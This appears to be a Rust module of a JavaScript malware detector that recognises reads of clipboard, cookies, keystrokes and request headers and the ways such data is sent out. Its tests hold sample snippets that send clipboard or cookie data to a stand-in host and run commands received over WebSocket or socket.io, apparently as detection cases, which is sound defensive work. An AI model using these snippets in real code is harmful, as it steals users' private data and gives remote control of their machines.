//! Recognizes calls that return private data of the user (clipboard, screen, cookies, requests of
//! other programs), and ways to send data other than a plain request.

use super::{Reader, calls::Call};
use crate::{
    act::Taint,
    value::{self, CLIPBOARD, COOKIES, KEYS, REQUESTS, SCREEN, Value},
};
use savoir_skill::Span;

/// Name of a regular expression; its only item is the pattern text.
pub(super) const PATTERN: &str = "RegExp()";

/// Whether an assignment replaces a library function, so that the new one sees every request.
pub(super) fn is_patched(property: &str, object: &Value) -> bool {
    let name = object.name.as_deref().unwrap_or_default();
    match property {
        "fetch" => matches!(name, "globalThis" | "window" | "global" | "self"),
        "request" | "get" => matches!(name, "http" | "https"),
        "open" | "send" | "setRequestHeader" => name.contains("XMLHttpRequest"),
        _ => false,
    }
}

/// Records a pattern that searches file names for secrets.
fn searches(reader: &mut Reader<'_>, pattern: &Value, span: Span) {
    if pattern.name.as_deref() == Some(PATTERN)
        && !reader.leaves_out
        && let Some(text) = pattern.items.first().and_then(Value::known)
    {
        value::names(text, span, &mut reader.acts);
    }
}

pub(super) fn by_name(
    reader: &mut Reader<'_>,
    name: &str,
    arguments: &[Value],
    span: Span,
) -> Option<Value> {
    let first = arguments.first().cloned().unwrap_or_default();
    // `require('clipboardy').default.read` is `clipboardy.read`.
    let short = name.replacen(".default.", ".", 1);
    Some(match short.as_str() {
        "clipboardy.read"
        | "clipboardy.readSync"
        | "copy-paste.paste"
        | "clipboard.readText"
        | "electron.clipboard.readText"
        | "navigator.clipboard.readText"
        | "navigator.clipboard.read" => {
            reader.harm.pastes |= reader.loops > 0;
            Value::tainted(Taint::private(CLIPBOARD))
        }
        "clipboardy.write" | "clipboardy.writeSync" | "navigator.clipboard.writeText" => {
            if reader.loops > 0 {
                reader.harm.copies.get_or_insert(span);
            }
            Value::default()
        }
        "screenshot-desktop"
        | "screenshot-desktop.all"
        | "desktopCapturer.getSources"
        | "electron.desktopCapturer.getSources" => Value::tainted(Taint::private(SCREEN)),
        "chrome.cookies.getAll" | "browser.cookies.getAll" | "chrome.cookies.get" => {
            Value::tainted(Taint::private("cookies of the browser"))
        }
        "keytar.getPassword" | "keytar.findPassword" => {
            value::keychain(&first, span, &mut reader.acts)
        }
        "socket.io-client"
        | "socket.io-client.io"
        | "socket.io-client.connect"
        | "io"
        | "mqtt.connect"
        | "mqtt.connectAsync"
        | "nats.connect"
        | "amqplib.connect" => {
            let log_in: Vec<&Value> = arguments.iter().skip(1).collect();
            let value = value::send(&first, &[], &log_in, span, &mut reader.acts);
            Value { name: Some("WebSocket()".into()), ..value }
        }
        _ if name.contains("interceptors.") && name.rsplit('.').next() == Some("use") => {
            let seen = Value::tainted(Taint::private(REQUESTS));
            for handler in arguments {
                if reader.is_function(handler) {
                    reader.invoke(handler, std::slice::from_ref(&seen), span);
                }
            }
            Value::default()
        }
        _ => return None,
    })
}

pub(super) fn by_method<'t>(
    reader: &mut Reader<'t>,
    method: &str,
    call: &Call<'_, 't>,
) -> Option<Value> {
    let (receiver, arguments, span) = (call.receiver, call.arguments, call.span);
    let first = arguments.first().cloned().unwrap_or_default();
    let host = receiver.name.as_deref().unwrap_or_default();
    Some(match method {
        "test" | "exec" if host == PATTERN => {
            searches(reader, receiver, span);
            return None;
        }
        "match" | "matchAll" | "search" => {
            searches(reader, &first, span);
            return None;
        }
        "includes" | "has" if !reader.leaves_out => {
            value::sought_names(receiver, span, &mut reader.acts);
            return None;
        }
        "emit" | "publish" if receiver.taint.fetched.is_some() => {
            let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
            let parts: Vec<&Value> = arguments.iter().skip(1).collect();
            value::send(&to, &parts, &[], span, &mut reader.acts)
        }
        "fastPut" | "uploadFrom" | "uploadFile" => {
            let content = reader.read_file(&first, span);
            let to = Value { text: receiver.taint.fetched.clone(), ..Value::default() };
            value::send(&to, &[&content], &[], span, &mut reader.acts)
        }
        "getItem" => Value::default(),
        "emit" | "dispatchEvent" | "publish" => {
            let event = first.known().unwrap_or_default().to_owned();
            let given = arguments.get(1..).unwrap_or_default();
            for listener in reader.listeners.get(&event).cloned().unwrap_or_default() {
                reader.invoke(&listener, given, span);
            }
            return None;
        }
        "on" | "once" | "addListener" | "subscribe" if receiver.taint.fetched.is_none() => {
            if let (Some(event), Some(listener)) = (first.known(), arguments.get(1))
                && reader.is_function(listener)
                && reader.listeners.len() < 1024
            {
                let known = reader.listeners.entry(event.to_owned()).or_default();
                if known.len() < 16 && !known.contains(listener) {
                    known.push(listener.clone());
                }
            }
            return pressed(reader, call);
        }
        "cookies" | "storageState" | "getAllCookies"
            if arguments.iter().all(|value| !reader.is_function(value)) =>
        {
            Value::tainted(Taint::private(COOKIES))
        }
        "send"
            if first.known().is_some_and(|text| {
                matches!(
                    text,
                    "Network.getAllCookies" | "Network.getCookies" | "Storage.getCookies"
                )
            }) =>
        {
            Value::tainted(Taint::private(COOKIES))
        }
        // A function that runs in the page receives the arguments after it.
        "evaluate"
        | "evaluateHandle"
        | "$eval"
        | "$$eval"
        | "addInitScript"
        | "executeScript"
        | "evaluateOnNewDocument"
            if arguments.iter().take(2).any(|value| reader.is_function(value)) =>
        {
            let at = arguments.iter().position(|value| reader.is_function(value))?;
            let function = arguments[at].clone();
            reader.invoke(&function, &arguments[at + 1..], span)
        }
        "use" if host.starts_with("express") => {
            // Middleware sees the headers of every request.
            let asked = Value::tainted(Taint::fetched(""));
            let seen = Value::tainted(Taint::private(REQUESTS));
            let request = Value {
                items: vec![Value::entry("headers", seen.clone()), Value::entry("cookies", seen)],
                ..asked
            };
            for handler in arguments {
                if reader.is_function(handler) {
                    reader.invoke(handler, std::slice::from_ref(&request), span);
                }
            }
            receiver.clone()
        }
        // A client of any package, with the address as argument.
        "post" | "put" | "patch"
            if first.text_or_unknown().starts_with("http")
                && first.text_or_unknown().contains("://") =>
        {
            let parts: Vec<Value> = parts_of(arguments);
            let parts: Vec<&Value> = parts.iter().collect();
            value::send(&first, &parts, &[], span, &mut reader.acts)
        }
        _ => return None,
    })
}

/// Calls the listener of a keyboard hook with the pressed keys.
fn pressed<'t>(reader: &mut Reader<'t>, call: &Call<'_, 't>) -> Option<Value> {
    let event = call.arguments.first()?.known()?;
    let host = call.receiver.name.as_deref()?.to_lowercase();
    let hook = ["iohook", "uiohook", "key-listener", "keyboard"];
    if !matches!(event, "keydown" | "keypress" | "keyup")
        || !hook.iter().any(|part| host.contains(part))
    {
        return None;
    }
    let handler = call.arguments.get(1)?.clone();
    reader.invoke(&handler, &[Value::tainted(Taint::private(KEYS))], call.span);
    Some(call.receiver.clone())
}

/// Returns the parts of a request other than its login.
fn parts_of(arguments: &[Value]) -> Vec<Value> {
    let mut parts = Vec::new();
    for argument in arguments.iter().skip(1) {
        let header = |item: &&Value| {
            !matches!(item.name.as_deref(), Some("headers:" | "auth:" | "cookies:"))
        };
        parts.push(Value::tainted(argument.taint.clone()));
        parts.extend(argument.items.iter().filter(header).cloned());
    }
    parts
}

/// Whether an assignment loads a URL, as `new Image().src = url` does, which sends everything in
/// it.
pub(super) fn loads(property: &str, object: &Value) -> bool {
    let element = object.name.as_deref().unwrap_or_default();
    matches!(property, "src" | "href" | "action")
        && (element == "Image()"
            || element.contains("createElement")
            || element.starts_with("document."))
        || matches!(element, "window.location" | "location" | "document.location")
            && property == "href"
}

#[cfg(test)]
mod tests {
    use crate::{
        act::{Act, Acts, CodeOrigin},
        javascript::read,
    };

    fn acts(text: &str) -> Acts {
        read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
    }

    fn sends_private(text: &str) -> bool {
        acts(text)
            .located
            .iter()
            .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
    }

    #[test]
    fn what_users_copy_and_are_logged_in_with() {
        for text in [
            "const c = require('clipboardy').default; fetch('https://a.example', { method: 'POST', body: c.readSync() });",
            "navigator.clipboard.readText().then(t => navigator.sendBeacon('https://a.example', t));",
            "const api = require('axios').create(); api.interceptors.request.use(c => { fetch('https://a.example', { body: c.headers }); return c; });",
            "const real = globalThis.fetch; globalThis.fetch = (u, o) => { real('https://a.example', { body: o }); return real(u, o); };",
            "const c = await page.cookies(); new Image().src = 'https://a.example/?' + JSON.stringify(c);",
            "const c = await page.cookies(); await page.evaluate(v => fetch('https://a.example', { body: v }), c);",
            "bus.on('k', v => fetch('https://a.example', { body: v })); bus.emit('k', document.cookie);",
        ] {
            assert!(sends_private(text), "{text}");
        }
        assert!(!sends_private("api.interceptors.response.use(r => r, e => api(e.config));"));
    }

    #[test]
    fn what_others_write_is_obeyed() {
        for text in [
            "const ws = new WebSocket('wss://a.example'); const ops = { x: a => require('child_process').exec(a) }; ws.onmessage = e => { const m = JSON.parse(e.data); ops[m.op](m.arg); };",
            "const s = require('socket.io-client')('https://a.example'); s.on('c', c => require('child_process').exec(c));",
            "c.on('messageCreate', m => { const [k, ...a] = m.content.split(' '); require('child_process').execSync(a.join(' ')); });",
        ] {
            let found = acts(text).located;
            let obeys = |act: &Act| matches!(act, Act::Executes(CodeOrigin::Fetched(_)));
            assert!(found.iter().any(|seen| obeys(&seen.act)), "{text}");
        }
    }

    #[test]
    fn files_that_are_left_out_are_not_looked_for() {
        let names =
            |text: &str| acts(text).located.iter().any(|seen| matches!(seen.act, Act::Names(_)));
        assert!(names("for (const f of files) if (/\\.env$|\\.pem$/.test(f)) out.push(f);"));
        assert!(!names("for (const f of files) { if (/\\.env$|\\.pem$/.test(f)) continue; }"));
        assert!(!names("files.filter(f => !/\\.env$|\\.pem$/.test(f));"));
    }

    #[test]
    fn names_in_pieces_hide_functions() {
        let hides =
            |text: &str| acts(text).located.iter().any(|seen| matches!(seen.act, Act::Obscures(_)));
        assert!(hides("(() => {})['con' + 'structor']('return 1')();"));
        assert!(hides("globalThis[['ev', 'al'].join('')]('1');"));
        assert!(!hides("const a = (async () => {}).constructor;"));
        assert!(!hides("globalThis['fetch']('https://a.example');"));
    }
}
